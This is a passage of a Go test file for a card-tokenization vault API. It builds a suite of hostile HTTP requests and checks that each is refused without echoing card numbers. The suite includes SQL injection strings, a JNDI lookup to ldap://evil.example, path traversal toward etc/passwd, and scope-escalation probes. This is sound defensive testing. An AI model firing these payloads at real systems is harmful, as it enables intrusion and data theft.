package httpapi_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cardvault/cardvault/httpapi"
	"github.com/cardvault/cardvault/vault"
	cardpkg "github.com/cardvault/cardvault/vault/card"
	"github.com/cardvault/cardvault/vault/postgres/vaulttest"
)

// hostilePAN is the public test card the hostile requests carry.
const hostilePAN = "4242424242424242"

// noContentType asks send for a request without a Content-Type header.
const noContentType = "-"

// hostileRequest is one request of the hostile suite and the one error
// answer it must get.
type hostileRequest struct {
	name   string
	method string
	path   string // escaped as it goes on the wire
	key    string // X-API-Key; none when ""
	body   string
	ctype  string            // Content-Type; application/json for a body when "", none when noContentType
	header map[string]string // more headers
	status int
	code   string
	param  string // checked when set
	typ    string // error type; derived from status when ""
}

// send makes the request on the real server and reads the whole answer.
func (ts *testServer) send(t *testing.T, r hostileRequest) response {
	t.Helper()
	req, err := http.NewRequest(r.method, ts.URL+r.path, strings.NewReader(r.body))
	require.NoError(t, err)
	switch {
	case r.ctype == noContentType:
	case r.ctype != "":
		req.Header.Set("Content-Type", r.ctype)
	case r.body != "":
		req.Header.Set("Content-Type", "application/json")
	}
	if r.key != "" {
		req.Header.Set("X-API-Key", r.key)
	}
	for k, v := range r.header {
		req.Header.Set(k, v)
	}
	res, err := ts.Client().Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return response{status: res.StatusCode, header: res.Header, body: b}
}

// errorShape is the one JSON shape of every error answer, and nothing else.
type errorShape struct {
	Error struct {
		Type    string `json:"type"`
		Code    string `json:"code"`
		Message string `json:"message"`
		Param   string `json:"param"`
	} `json:"error"`
}

var requestIDPattern = regexp.MustCompile(`^req_[0-9a-f]{24}$`)

// typeOf is the error type every answer of status carries.
func typeOf(status int) string {
	switch status {
	case http.StatusUnauthorized:
		return "authentication_error"
	case http.StatusForbidden:
		return "permission_error"
	}
	return "invalid_request_error"
}

// requireErrorAnswer checks an error answer: the exact status, the one error
// shape with code (and param when set), a Request-Id, no-store, and no card
// number: none of pans and no Luhn-valid 12–19-digit run at all.
func requireErrorAnswer(t *testing.T, res response, status int, typ, code, param string, pans ...string) errorShape {
	t.Helper()
	require.Equal(t, status, res.status, "body: %.300s", res.body)
	assert.Equal(t, "application/json", res.header.Get("Content-Type"))
	assert.Regexp(t, requestIDPattern, res.header.Get(httpapi.HeaderRequestID))
	assert.Equal(t, "no-store", res.header.Get("Cache-Control"))
	var e errorShape
	dec := json.NewDecoder(bytes.NewReader(res.body))
	dec.DisallowUnknownFields()
	require.NoError(t, dec.Decode(&e), "the one error shape: %.300s", res.body)
	if typ == "" {
		typ = typeOf(status)
	}
	assert.Equal(t, typ, e.Error.Type)
	assert.Equal(t, code, e.Error.Code, "message: %s", e.Error.Message)
	if param != "" {
		assert.Equal(t, param, e.Error.Param)
	}
	assert.NotEmpty(t, e.Error.Message)
	requireNoPAN(t, string(res.body), pans...)
	return e
}

// requireNoPAN fails if s holds any of pans or any Luhn-valid run of 12 to
// 19 digits, with or without spaces and dashes between them.
func requireNoPAN(t *testing.T, s string, pans ...string) {
	t.Helper()
	for _, p := range pans {
		require.NotContains(t, s, p, "a card number is echoed")
	}
	require.Empty(t, panLikeRuns(s), "a card-number-like run is echoed")
}

// panLikeRuns returns every Luhn-valid 12–19-digit window of the digit runs
// of s, taken once as they are and once with spaces and dashes removed.
func panLikeRuns(s string) []string {
	var out []string
	stripped := strings.NewReplacer(" ", "", "-", "").Replace(s)
	for _, text := range []string{s, stripped} {
		for _, run := range regexp.MustCompile(`[0-9]{12,}`).FindAllString(text, -1) {
			for i := range run {
				for n := 12; n <= 19 && i+n <= len(run); n++ {
					if cardpkg.Luhn(run[i : i+n]) {
						out = append(out, run[i:i+n])
					}
				}
			}
		}
	}
	return out
}

// hostileKeys are the credentials the hostile suite uses.
type hostileKeys struct {
	all, read, create, revoked, other string
	mine, foreign                     string // a token of the tenant of all, and one of other's tenant
}

func newHostileKeys(t *testing.T, ts *testServer) hostileKeys {
	t.Helper()
	ctx := context.Background()
	tenant, all := vaulttest.Tenant(t, ts.svc)
	k := hostileKeys{all: all, other: ts.key(t)}
	var err error
	k.read, _, err = ts.svc.CreateAPIKey(ctx, tenant, []vault.Scope{vault.ScopeTokensRead}, "read only")
	require.NoError(t, err)
	k.create, _, err = ts.svc.CreateAPIKey(ctx, tenant, []vault.Scope{vault.ScopeTokensCreate}, "create only")
	require.NoError(t, err)
	var revoked vault.APIKey
	k.revoked, revoked, err = ts.svc.CreateAPIKey(ctx, tenant, vault.AllScopes, "revoked")
	require.NoError(t, err)
	_, err = ts.svc.RevokeAPIKey(ctx, revoked.ID)
	require.NoError(t, err)
	k.mine = tokenize(t, ts, all, cardBody("pm_hostile_mine", hostilePAN))
	k.foreign = tokenize(t, ts, k.other, cardBody("pm_hostile_theirs", "5555555555554444"))
	return k
}

// tokenize stores body with key and returns the new token's id.
func tokenize(t *testing.T, ts *testServer, key, body string) string {
	t.Helper()
	res := ts.do(t, http.MethodPost, "/tokens", key, body)
	require.Equal(t, http.StatusCreated, res.status, "body: %s", res.body)
	return res.json(t)["id"].(string)
}

// card returns a tokenize body with the card fields given as raw JSON
// values (number, exp_month, exp_year, cvc, name) and metadata as a raw JSON
// object.
func card(metadata, number, month, year, cvc, name string) string {
	return `{"metadata":` + metadata + `,"card":{"number":` + number + `,"exp_month":` + month +
		`,"exp_year":` + year + `,"cvc":` + cvc + `,"name":` + name + `}}`
}

// goodCard returns a valid tokenize body with metadata as a raw JSON object.
func goodCard(metadata string) string {
	return card(metadata, `"`+hostilePAN+`"`, `"04"`, `"2033"`, `"123"`, `"Jane Doe"`)
}

// jsonArray returns a JSON array of n zeros.
func jsonArray(n int) string {
	return "[" + strings.TrimSuffix(strings.Repeat("0,", n), ",") + "]"
}

// nested returns v inside depth JSON arrays.
func nested(depth int, v string) string {
	return strings.Repeat("[", depth) + v + strings.Repeat("]", depth)
}

// hostileRequests lists the suite. Every request is answered with a 4xx
// before anything is stored.
func hostileRequests(k hostileKeys) []hostileRequest {
	const post, get, del = http.MethodPost, http.MethodGet, http.MethodDelete
	pan := hostilePAN
	q := func(s string) string { return `"` + s + `"` }
	good := func(metadata string) string { return goodCard(metadata) }
	random := uuid.NewString()
	mine, foreign := "/tokens/"+k.mine, "/tokens/"+k.foreign
	huge := strings.Repeat("x", 10<<20)
	return []hostileRequest{
		// Malformed and truncated JSON.
		{name: "truncated in a string", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"` + pan[:10], status: 400, code: "invalid_json"},
		{name: "truncated after a colon", method: post, path: "/cde-import", key: k.all, body: `{"card":`, status: 400, code: "invalid_json"},
		{name: "only an open brace", method: post, path: "/tokens", key: k.all, body: `{`, status: 400, code: "invalid_json"},
		{name: "truncated after the PAN", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"` + pan + `"`, status: 400, code: "invalid_json"},
		{name: "trailing comma", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"` + pan + `",}}`, status: 400, code: "invalid_json"},
		{name: "single quotes", method: post, path: "/cde-import", key: k.all, body: `{'card':{'number':'` + pan + `'}}`, status: 400, code: "invalid_json"},
		{name: "bare word", method: post, path: "/tokens", key: k.all, body: `card`, status: 400, code: "invalid_json"},
		{name: "comment", method: post, path: "/tokens", key: k.all, body: `{/* x */"card":{}}`, status: 400, code: "invalid_json"},
		{name: "NUL between tokens", method: post, path: "/tokens", key: k.all, body: "{\"card\":\x00{}}", status: 400, code: "invalid_json"},
		{name: "two JSON values", method: post, path: "/cde-import", key: k.all, body: good(`{}`) + `{}`, status: 400, code: "invalid_json"},
		{name: "value then garbage", method: post, path: "/cde-import", key: k.all, body: good(`{}`) + `x`, status: 400, code: "invalid_json"},
		{name: "empty body", method: post, path: "/tokens", key: k.all, body: "", ctype: "application/json", status: 400, code: "invalid_json"},
		{name: "whitespace body", method: post, path: "/tokens", key: k.all, body: " \n\t ", status: 400, code: "invalid_json"},
		{name: "unquoted key", method: post, path: "/tokens", key: k.all, body: `{card:{}}`, status: 400, code: "invalid_json"},
		{name: "number with leading zeros", method: post, path: "/tokens", key: k.all, body: card(`{}`, "0"+pan, `4`, `2033`, `123`, `null`), status: 400, code: "invalid_json"},
		// Wrong types.
		{name: "top-level array", method: post, path: "/cde-import", key: k.all, body: `[1,2]`, status: 400, code: "parameter_invalid_type"},
		{name: "top-level string PAN", method: post, path: "/cde-import", key: k.all, body: q(pan), status: 400, code: "parameter_invalid_type"},
		{name: "top-level number PAN", method: post, path: "/cde-import", key: k.all, body: pan, status: 400, code: "parameter_invalid_type"},
		{name: "card is a string", method: post, path: "/cde-import", key: k.all, body: `{"card":"` + pan + `"}`, status: 400, code: "parameter_invalid_type", param: "card"},
		{name: "card.number is an object", method: post, path: "/cde-import", key: k.all, body: card(`{}`, `{"pan":"`+pan+`"}`, `"04"`, `"2033"`, `""`, `""`), status: 400, code: "parameter_invalid_type"},
		{name: "card.number is an array", method: post, path: "/cde-import", key: k.all, body: card(`{}`, `["`+pan+`"]`, `"04"`, `"2033"`, `""`, `""`), status: 400, code: "parameter_invalid_type"},
		{name: "card.number is true", method: post, path: "/cde-import", key: k.all, body: card(`{}`, `true`, `"04"`, `"2033"`, `""`, `""`), status: 400, code: "parameter_invalid_type"},
		{name: "card.exp_month is an object", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `{}`, `"2033"`, `""`, `""`), status: 400, code: "parameter_invalid_type"},
		{name: "metadata is an array", method: post, path: "/cde-import", key: k.all, body: `{"metadata":["` + pan + `"],"card":{"number":"` + pan + `"}}`, status: 400, code: "parameter_invalid_type", param: "metadata"},
		{name: "metadata value is a number", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":` + pan + `}`), status: 400, code: "parameter_invalid_type", param: "metadata"},
		{name: "metadata value is an object", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":{"pan":"` + pan + `"}}`), status: 400, code: "parameter_invalid_type", param: "metadata"},
		{name: "reason is a number", method: post, path: mine + "/detokenize", key: k.all, body: `{"reason":` + pan + `}`, status: 400, code: "parameter_invalid_type", param: "reason"},
		{name: "key_id is a string", method: post, path: "/keys/retire", key: k.all, body: `{"key_id":"1"}`, status: 400, code: "parameter_invalid_type", param: "key_id"},
		{name: "key_id overflows", method: post, path: "/keys/retire", key: k.all, body: `{"key_id":` + pan + `}`, status: 400, code: "parameter_invalid_type", param: "key_id"},
		{name: "key_id is negative", method: post, path: "/keys/retire", key: k.all, body: `{"key_id":-1}`, status: 400, code: "parameter_invalid_type", param: "key_id"},
		{name: "import provider is a number", method: post, path: "/tokens/imports", key: k.all, body: `{"provider":1,"stripe":{"api_key":"sk_test_x"}}`, status: 400, code: "parameter_invalid_type", param: "provider"},
		// Duplicate and case-folded keys, which encoding/json would merge.
		{name: "duplicate card", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"4000056655665556"},"card":{"number":"` + pan + `"}}`, status: 400, code: "parameter_duplicate", param: "card"},
		{name: "duplicate card.number", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"4000056655665556","number":"` + pan + `"}}`, status: 400, code: "parameter_duplicate", param: "card.number"},
		{name: "duplicate business_key", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":"pm_a","business_key":"pm_b"}`), status: 400, code: "parameter_duplicate", param: "metadata.business_key"},
		{name: "case-folded field", method: post, path: "/cde-import", key: k.all, body: `{"Card":{"number":"` + pan + `"}}`, status: 400, code: "parameter_unknown", param: "Card"},
		{name: "case-folded duplicate", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"4000056655665556"},"CARD":{"number":"` + pan + `"}}`, status: 400, code: "parameter_unknown", param: "CARD"},
		{name: "unknown field named by a PAN", method: post, path: "/cde-import", key: k.all, body: `{"` + pan + `":1}`, status: 400, code: "parameter_unknown", param: "424242******4242"},
		{name: "unknown card field", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":"` + pan + `","pan":"` + pan + `"}}`, status: 400, code: "parameter_unknown", param: "card.pan"},
		{name: "long unknown field", method: post, path: "/cde-import", key: k.all, body: `{"` + strings.Repeat("a", 5000) + `":1}`, status: 400, code: "parameter_unknown", param: strings.Repeat("a", 64) + "…"},
		// Nulls.
		{name: "null body", method: post, path: "/cde-import", key: k.all, body: `null`, status: 400, code: "parameter_missing", param: "card"},
		{name: "null card", method: post, path: "/cde-import", key: k.all, body: `{"metadata":null,"card":null}`, status: 400, code: "parameter_missing", param: "card"},
		{name: "null number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, `null`, `"04"`, `"2033"`, `null`, `null`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "null month", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `null`, `"2033"`, `null`, `null`), status: 422, code: "invalid_expiry_month", param: "card.exp_month"},
		{name: "null key_id", method: post, path: "/keys/retire", key: k.all, body: `{"key_id":null}`, status: 400, code: "parameter_missing", param: "key_id"},
		// Sizes, depth and array lengths.
		{name: "10 MB body", method: post, path: "/cde-import", key: k.all, body: good(`{"pad":"` + huge + `"}`), status: 413, code: "body_too_large"},
		{name: "10 MB body, not JSON", method: post, path: "/cde-import", key: k.all, body: huge, ctype: "text/plain", status: 413, code: "body_too_large"},
		{name: "100k-element array", method: post, path: "/cde-import", key: k.all, body: good(`{"a":` + jsonArray(100_000) + `}`), status: 413, code: "body_too_large"},
		{name: "10k-element array", method: post, path: "/cde-import", key: k.all, body: good(`{"a":` + jsonArray(10_000) + `}`), status: 400, code: "array_too_long", param: "metadata.a"},
		{name: "array one over the limit", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":` + jsonArray(httpapi.MaxJSONArrayLen+1) + `}}`, status: 400, code: "array_too_long", param: "card.number"},
		{name: "array at the limit, wrong type", method: post, path: "/cde-import", key: k.all, body: `{"card":{"number":` + jsonArray(httpapi.MaxJSONArrayLen) + `}}`, status: 400, code: "parameter_invalid_type"},
		{name: "10k levels of arrays", method: post, path: "/cde-import", key: k.all, body: nested(10_000, q(pan)), status: 400, code: "nesting_too_deep"},
		{name: "10k levels of objects", method: post, path: "/cde-import", key: k.all, body: strings.Repeat(`{"a":`, 10_000) + q(pan) + strings.Repeat("}", 10_000), status: 400, code: "parameter_unknown", param: "a"},
		{name: "10k levels in metadata", method: post, path: "/cde-import", key: k.all, body: good(`{"a":` + nested(10_000, `1`) + `}`), status: 400, code: "nesting_too_deep", param: "metadata.a"},
		{name: "one level over the limit", method: post, path: "/cde-import", key: k.all, body: good(`{"a":` + nested(httpapi.MaxJSONDepth-1, `1`) + `}`), status: 400, code: "nesting_too_deep", param: "metadata.a"},
		{name: "52 metadata keys", method: post, path: "/cde-import", key: k.all, body: good(manyKeys(52)), status: 400, code: "parameter_invalid", param: "metadata"},
		{name: "501-character metadata value", method: post, path: "/cde-import", key: k.all, body: good(`{"note":"` + strings.Repeat("n", 501) + `"}`), status: 422, code: "string_too_long", param: "metadata.note"},
		{name: "256-character business_key", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":"` + strings.Repeat("b", 256) + `"}`), status: 422, code: "string_too_long", param: "metadata.business_key"},
		{name: "41-character metadata key", method: post, path: "/cde-import", key: k.all, body: good(`{"` + strings.Repeat("k", 41) + `":"v"}`), status: 422, code: "invalid_metadata", param: "metadata"},
		// Invalid UTF-8 and control characters.
		{name: "invalid UTF-8 in the name", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `"04"`, `"2033"`, `"123"`, "\"J\xffD\""), status: 400, code: "invalid_utf8"},
		{name: "invalid UTF-8 in a metadata key", method: post, path: "/cde-import", key: k.all, body: good("{\"k\xc3\":\"v\"}"), status: 400, code: "invalid_utf8"},
		{name: "overlong UTF-8 slash", method: post, path: "/cde-import", key: k.all, body: good("{\"k\":\"\xc0\xaf\"}"), status: 400, code: "invalid_utf8"},
		{name: "UTF-16 surrogate bytes", method: post, path: "/cde-import", key: k.all, body: good("{\"k\":\"\xed\xa0\x80\"}"), status: 400, code: "invalid_utf8"},
		{name: "escaped NUL in business_key", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":"pm_\u0000"}`), status: 422, code: "invalid_string", param: "metadata.business_key"},
		{name: "escaped newline in the name", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `"04"`, `"2033"`, `"123"`, `"Jane\nDoe"`), status: 422, code: "invalid_name", param: "card.name"},
		// Injection strings, refused for another reason (stored verbatim otherwise: TestInjectionStringsAreInert).
		{name: "SQL injection in business_key, Luhn-invalid", method: post, path: "/cde-import", key: k.all, body: card(`{"business_key":"'; DROP TABLE tokens;--"}`, q("4242424242424241"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "incorrect_number"},
		{name: "template injection in metadata, month 0", method: post, path: "/cde-import", key: k.all, body: card(`{"t":"{{.}}","u":"{{template \"x\"}}"}`, q(pan), `"0"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_expiry_month"},
		{name: "JNDI lookup in metadata, year 1999", method: post, path: "/cde-import", key: k.all, body: card(`{"j":"${jndi:ldap://evil.example/a}"}`, q(pan), `"04"`, `"1999"`, `""`, `""`), status: 422, code: "invalid_expiry_year"},
		{name: "SQL injection as a metadata key, PAN value", method: post, path: "/cde-import", key: k.all, body: good(`{"' OR 1=1--":"` + pan + `"}`), status: 422, code: "sensitive_data"},
		{name: "SQL injection in the business_key filter", method: get, path: "/tokens?limit=101&business_key=" + url.QueryEscape("' OR '1'='1"), key: k.all, status: 400, code: "parameter_invalid", param: "limit"},
		{name: "SQL injection as a token id", method: get, path: "/tokens/" + url.PathEscape("' OR '1'='1"), key: k.all, status: 404, code: "resource_missing"},
		{name: "SQL injection as starting_after", method: get, path: "/tokens?starting_after=" + url.QueryEscape("1; DROP TABLE tokens"), key: k.all, status: 400, code: "parameter_invalid", param: "starting_after"},
		// Card numbers and expiries.
		{name: "25-digit number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("4242424242424242424242424"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "11-digit number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("42424242424"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "20-digit number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("42424242424242424242"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "25-digit JSON number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, "4242424242424242424242424", `4`, `2033`, `null`, `null`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "Luhn-invalid number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("4242424242424241"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "incorrect_number", param: "card.number"},
		{name: "Luhn-invalid JSON number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, "4242424242424241", `4`, `2033`, `null`, `null`), status: 422, code: "incorrect_number", param: "card.number"},
		{name: "number in exponent form", method: post, path: "/cde-import", key: k.all, body: card(`{}`, "4.242424242424242e15", `4`, `2033`, `null`, `null`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "letters in the number", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("4242-4242-abcd-4242"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "fullwidth digits", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q("４２４２４２４２４２４２４２４２"), `"04"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_number", param: "card.number"},
		{name: "month 0", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `"0"`, `"2033"`, `""`, `""`), status: 422, code: "invalid_expiry_month", param: "card.exp_month"},
		{name: "month 13", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `13`, `2033`, `""`, `""`), status: 422, code: "invalid_expiry_month", param: "card.exp_month"},
		{name: "month -1", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `-1`, `2033`, `""`, `""`), status: 422, code: "invalid_expiry_month", param: "card.exp_month"},
		{name: "year 1999", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `"04"`, `"1999"`, `""`, `""`), status: 422, code: "invalid_expiry_year", param: "card.exp_year"},
		{name: "year 2100", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `4`, `2100`, `""`, `""`), status: 422, code: "invalid_expiry_year", param: "card.exp_year"},
		{name: "year as PAN", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `4`, q(pan), `""`, `""`), status: 422, code: "invalid_expiry_year", param: "card.exp_year"},
		{name: "5-digit CVC", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `4`, `2033`, `"12345"`, `""`), status: 422, code: "invalid_cvc", param: "card.cvc"},
		{name: "PAN as CVC", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `4`, `2033`, q(pan), `""`), status: 422, code: "invalid_cvc", param: "card.cvc"},
		{name: "PAN as cardholder name", method: post, path: "/cde-import", key: k.all, body: card(`{}`, q(pan), `4`, `2033`, `"123"`, q(pan)), status: 422, code: "invalid_name", param: "card.name"},
		// Content types.
		{name: "text/plain", method: post, path: "/cde-import", key: k.all, body: good(`{}`), ctype: "text/plain", status: 415, code: "unsupported_media_type"},
		{name: "no Content-Type", method: post, path: "/cde-import", key: k.all, body: good(`{}`), ctype: noContentType, status: 415, code: "unsupported_media_type"},
		{name: "form encoded", method: post, path: "/cde-import", key: k.all, body: "card[number]=" + pan, ctype: "application/x-www-form-urlencoded", status: 415, code: "unsupported_media_type"},
		{name: "malformed Content-Type", method: post, path: "/cde-import", key: k.all, body: good(`{}`), ctype: "application/json; charset", status: 415, code: "unsupported_media_type"},
		{name: "JSON look-alike type", method: post, path: "/cde-import", key: k.all, body: good(`{}`), ctype: "application/jsonp", status: 415, code: "unsupported_media_type"},
		// Credentials.
		{name: "no API key", method: post, path: "/cde-import", body: good(`{}`), status: 401, code: "invalid_api_key"},
		{name: "malformed API key", method: get, path: "/tokens", key: "Bearer abc", status: 401, code: "invalid_api_key"},
		{name: "PAN as API key", method: get, path: "/tokens", key: pan, status: 401, code: "invalid_api_key"},
		{name: "unknown API key", method: get, path: "/tokens", key: "cvk_0123456789abcdef_" + strings.Repeat("A", 43), status: 401, code: "invalid_api_key"},
		{name: "revoked API key", method: get, path: mine, key: k.revoked, status: 401, code: "invalid_api_key"},
		{name: "tampered API key", method: get, path: mine, key: k.all[:len(k.all)-1] + flip(k.all[len(k.all)-1]), status: 401, code: "invalid_api_key"},
		{name: "key in the query string only", method: get, path: "/tokens?api_key=" + url.QueryEscape(k.all), status: 401, code: "invalid_api_key"},
		// Big headers, under the 32 KiB that `cardvault serve` allows (over it net/http answers 431: TestOversizedHeadersAreRefusedBeforeTheAPI).
		{name: "16 kB API key header", method: get, path: "/tokens", key: strings.Repeat("k", 16<<10), status: 401, code: "invalid_api_key"},
		{name: "24 kB of other headers", method: get, path: "/tokens/" + random, key: k.all, header: map[string]string{"X-Pad": strings.Repeat("p", 24<<10)}, status: 404, code: "resource_missing"},
		{name: "500 header lines", method: get, path: "/tokens/" + random, key: k.all, header: manyHeaders(500), status: 404, code: "resource_missing"},
		// Scope escalation: a tokens:read key, and a tokens:create key.
		{name: "read key detokenizes", method: post, path: mine + "/detokenize", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key deletes", method: del, path: mine, key: k.read, status: 403, code: "missing_scope"},
		{name: "read key tokenizes", method: post, path: "/cde-import", key: k.read, body: good(`{}`), status: 403, code: "missing_scope"},
		{name: "read key reads key status", method: get, path: "/keys", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key rotates keys", method: post, path: "/keys/rotate", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key retires a key", method: post, path: "/keys/retire", key: k.read, body: `{"key_id":1}`, status: 403, code: "missing_scope"},
		{name: "read key re-encrypts", method: post, path: "/keys/reencrypt", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key starts an import", method: post, path: "/tokens/imports", key: k.read, body: `{"provider":"stripe","stripe":{"api_key":"sk_test_x"}}`, status: 403, code: "missing_scope"},
		{name: "read key lists imports", method: get, path: "/tokens/imports", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key reads the audit trail", method: get, path: "/audit-events", key: k.read, status: 403, code: "missing_scope"},
		{name: "read key sets a webhook", method: http.MethodPut, path: "/webhook", key: k.read, body: `{"url":"https://evil.example/"}`, status: 403, code: "missing_scope"},
		{name: "create key reads a token", method: get, path: mine, key: k.create, status: 403, code: "missing_scope"},
		{name: "create key detokenizes", method: post, path: mine + "/detokenize", key: k.create, status: 403, code: "missing_scope"},
		// Id enumeration: random, foreign and malformed ids are all unknown.
		{name: "random id read", method: get, path: "/tokens/" + random, key: k.all, status: 404, code: "resource_missing"},
		{name: "random id detokenize", method: post, path: "/tokens/" + random + "/detokenize", key: k.all, status: 404, code: "resource_missing"},
		{name: "random id delete", method: del, path: "/tokens/" + random, key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id read", method: get, path: foreign, key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id detokenize", method: post, path: foreign + "/detokenize", key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id delete", method: del, path: foreign, key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id, upper case", method: get, path: "/tokens/" + strings.ToUpper(k.foreign), key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id as a URN", method: get, path: "/tokens/urn:uuid:" + k.foreign, key: k.all, status: 404, code: "resource_missing"},
		{name: "foreign id as starting_after", method: get, path: "/tokens?starting_after=" + k.foreign, key: k.all, status: 400, code: "parameter_invalid", param: "starting_after"},
		{name: "own id with another tenant's key", method: post, path: mine + "/detokenize", key: k.other, status: 404, code: "resource_missing"},
		{name: "nil id", method: get, path: "/tokens/" + uuid.Nil.String(), key: k.all, status: 404, code: "resource_missing"},
		{name: "numeric id", method: get, path: "/tokens/123", key: k.all, status: 404, code: "resource_missing"},
		{name: "PAN as id", method: get, path: "/tokens/" + pan, key: k.all, status: 404, code: "resource_missing"},
		{name: "random import id", method: get, path: "/tokens/imports/" + random, key: k.all, status: 404, code: "resource_missing"},
		// Path traversal.
		{name: "dot-dot to the key routes", method: get, path: "/tokens/../keys", key: k.read, status: 404, code: "route_not_found"},
		{name: "escaped dot-dot slash as an id", method: get, path: "/tokens/..%2F..%2Fkeys", key: k.all, status: 404, code: "resource_missing"},
		{name: "escaped dot-dot as an id", method: post, path: "/tokens/%2e%2e/detokenize", key: k.all, status: 404, code: "resource_missing"},
		{name: "double slash", method: get, path: "//tokens", key: k.all, status: 404, code: "route_not_found"},
		{name: "dot-dot after a route", method: post, path: "/cde-import/../keys/rotate", key: k.all, status: 404, code: "route_not_found"},
		{name: "etc/passwd", method: get, path: "/tokens/..%2F..%2F..%2Fetc%2Fpasswd", key: k.all, status: 404, code: "resource_missing"},
		// Methods not allowed (405 with Allow: TestWrongMethodsAnswer405WithAllow).
		{name: "PUT /tokens", method: http.MethodPut, path: "/tokens", key: k.all, body: good(`{}`), status: 405, code: "method_not_allowed"},
		{name: "PATCH a token", method: http.MethodPatch, path: mine, key: k.all, body: `{}`, status: 405, code: "method_not_allowed"},
		{name: "GET /cde-import", method: get, path: "/cde-import", key: k.all, status: 405, code: "method_not_allowed"},
		{name: "DELETE /cde-import", method: del, path: "/cde-import", key: k.all, status: 405, code: "method_not_allowed"},
		{name: "TRACE /tokens", method: http.MethodTrace, path: "/tokens", key: k.all, status: 405, code: "method_not_allowed"},
		// Query parameters and detokenize reasons.
		{name: "limit is a word", method: get, path: "/tokens?limit=abc", key: k.all, status: 400, code: "parameter_invalid", param: "limit"},
		{name: "limit is a PAN", method: get, path: "/tokens?limit=" + pan, key: k.all, status: 400, code: "parameter_invalid", param: "limit"},
		{name: "PAN as a query parameter name", method: get, path: "/tokens?" + pan + "=1", key: k.all, status: 400, code: "parameter_unknown"},
		{name: "misspelt filter", method: get, path: "/tokens?businesskey=pm_1", key: k.all, status: 400, code: "parameter_unknown", param: "businesskey"},
		{name: "repeated limit", method: get, path: "/tokens?limit=1&limit=2", key: k.all, status: 400, code: "parameter_invalid", param: "limit"},
		{name: "semicolon-separated query", method: get, path: "/tokens?limit=1;business_key=x", key: k.all, status: 400, code: "parameter_invalid"},
		{name: "query on a route without parameters", method: post, path: "/cde-import?foo=1", key: k.all, body: good(`{}`), status: 400, code: "parameter_unknown", param: "foo"},
		{name: "PAN as reason", method: post, path: mine + "/detokenize", key: k.all, body: `{"reason":"card ` + pan + `"}`, status: 422, code: "sensitive_data", param: "reason"},
		{name: "501-character reason", method: post, path: mine + "/detokenize", key: k.all, body: `{"reason":"` + strings.Repeat("r", 501) + `"}`, status: 400, code: "parameter_invalid", param: "reason"},
		{name: "unknown detokenize field", method: post, path: mine + "/detokenize", key: k.all, body: `{"reason":"x","cvc":"123"}`, status: 400, code: "parameter_unknown", param: "cvc"},
		// Idempotency keys.
		{name: "256-character Idempotency-Key", method: post, path: "/cde-import", key: k.all, body: good(`{}`), header: map[string]string{"Idempotency-Key": strings.Repeat("i", 256)}, status: 400, code: "idempotency_key_invalid"},
		{name: "non-ASCII Idempotency-Key", method: post, path: "/cde-import", key: k.all, body: good(`{}`), header: map[string]string{"Idempotency-Key": "clé-1"}, status: 400, code: "idempotency_key_invalid"},
